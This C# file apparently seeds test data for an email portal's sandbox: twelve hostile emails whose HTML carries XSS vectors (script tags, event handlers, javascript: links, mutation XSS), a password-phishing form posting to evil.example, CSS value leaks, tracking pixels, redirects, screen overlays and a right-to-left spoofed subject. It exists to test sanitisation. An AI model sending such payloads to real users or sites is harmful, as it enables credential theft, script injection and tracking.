namespace Portal.Sandbox.Service.Seeding;

/// <summary>E-mails that attack whoever shows them: subject and HTML. Each tries one thing, and leaves a trace if it works.</summary>
internal static class HostileEmails
{
    public static IReadOnlyList<(string Subject, string Html)> All { get; } =
    [
        ("Script in the body", """<p>Hello, please see below.</p><script>window.top.document.title = 'owned by script'; window.top.owned = true</script><script src="https://evil.example/steal.js"></script><p>Regards</p>"""),
        ("Event handlers", """<img src="x" onerror="window.top.owned = true"><body onload="window.top.owned = true"><svg onload="window.top.owned = true"></svg><details open ontoggle="window.top.owned = true"><summary>More</summary></details><p onmouseover="window.top.owned = true">Move over me</p>"""),
        ("Links that run", """<p><a href="javascript:window.top.owned=true">Your invoice</a> <a href="jAvAsCrIpT&colon;window.top.owned=true">Your receipt</a> <a href="data:text/html,<script>window.top.owned=true</script>">Your photos</a> <a href="vbscript:msgbox(1)">Your file</a> <a href="https://evil.example/?from=portal" target="_top">A plain link to the top</a></p>"""),
        ("Remote images that count readers", """<p>Nothing to see here.</p><img src="https://tracker.example/open.gif?reader=portal" width="1" height="1" alt=""><div style="background:url('https://tracker.example/background.png')">Background</div><picture><source srcset="https://tracker.example/source.webp"><img src="http://tracker.example/plain-http.png" alt="Summer sale"></picture><video poster="https://tracker.example/poster.jpg"></video>"""),
        ("Please confirm your password", """<form action="https://evil.example/collect" method="post"><p>Your session has ended. Please sign in again.</p><label>Password <input type="password" name="password" autofocus></label><button formaction="https://evil.example/collect">Sign in</button></form>"""),
        ("A style that covers everything", """<style>*{visibility:hidden} body::before{content:"Call +1 900 555 0199 now";visibility:visible;position:fixed;inset:0;z-index:2147483647;background:red;color:white;font-size:48px} @import url("https://evil.example/style.css"); input[value^="a"]{background:url(https://evil.example/leak?a)}</style><div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff;z-index:99999">You have been signed out.</div>"""),
        ("Base and refresh", """<base href="https://evil.example/" target="_top"><meta http-equiv="refresh" content="0;url=https://evil.example/landing"><p>You are being <a href="account">redirected</a>.</p>"""),
        ("Frames and objects", """<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="&lt;script&gt;window.top.owned=true&lt;/script&gt;"></iframe><object data="https://evil.example/movie.swf"></object><embed src="https://evil.example/plugin"><link rel="stylesheet" href="https://evil.example/style.css"><link rel="dns-prefetch" href="//leak.evil.example">"""),
        ("Markup that isn't closed", """<table><tr><td><div><b><i><a href="https://evil.example"><p>Everything after this mail is mine</table></div></section></article></main></body></html><h1 id="hijack">Portal</h1><!-- <textarea><title><noscript><xmp><plaintext>"""),
        ("Mutation", """<svg><style><img src="</style><img src=x onerror=window.top.owned=true>"></style></svg><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.top.owned=true&gt;"></table></mtext></math><noscript><p title="</noscript><img src=x onerror=window.top.owned=true>"></noscript>"""),
        ("Very wide and very long", $"""<div style="width:20000px;white-space:nowrap;background:linear-gradient(90deg,red,blue)">{string.Concat(Enumerable.Repeat("wide ", 800))}</div>{string.Concat(Enumerable.Repeat("<p>And another paragraph.</p>", 400))}"""),
        ("\u202Ereversed subject \u202C<b>with markup</b> & entities &lt;script&gt;", """<p dir="rtl">שלום! هذه رسالة بريد إلكتروني. <span dir="ltr">Order #123</span></p><p>&#x202E;txt.exe</p>"""),
    ];
}
